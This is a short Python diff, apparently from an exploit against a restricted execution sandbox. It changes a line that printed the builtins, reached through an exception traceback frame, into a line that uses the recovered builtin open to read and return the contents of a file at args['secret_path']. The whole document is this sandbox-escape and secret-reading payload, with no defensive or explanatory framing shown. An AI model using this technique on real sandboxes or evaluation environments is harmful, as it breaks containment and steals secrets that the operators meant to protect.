@@ -2,4 +2,4 @@
 try:
     1 / 0
 except ZeroDivisionError as error:
-    return str(error.__traceback__.tb_frame.f_builtins)
+    return error.__traceback__.tb_frame.f_builtins["open"](args["secret_path"]).read()
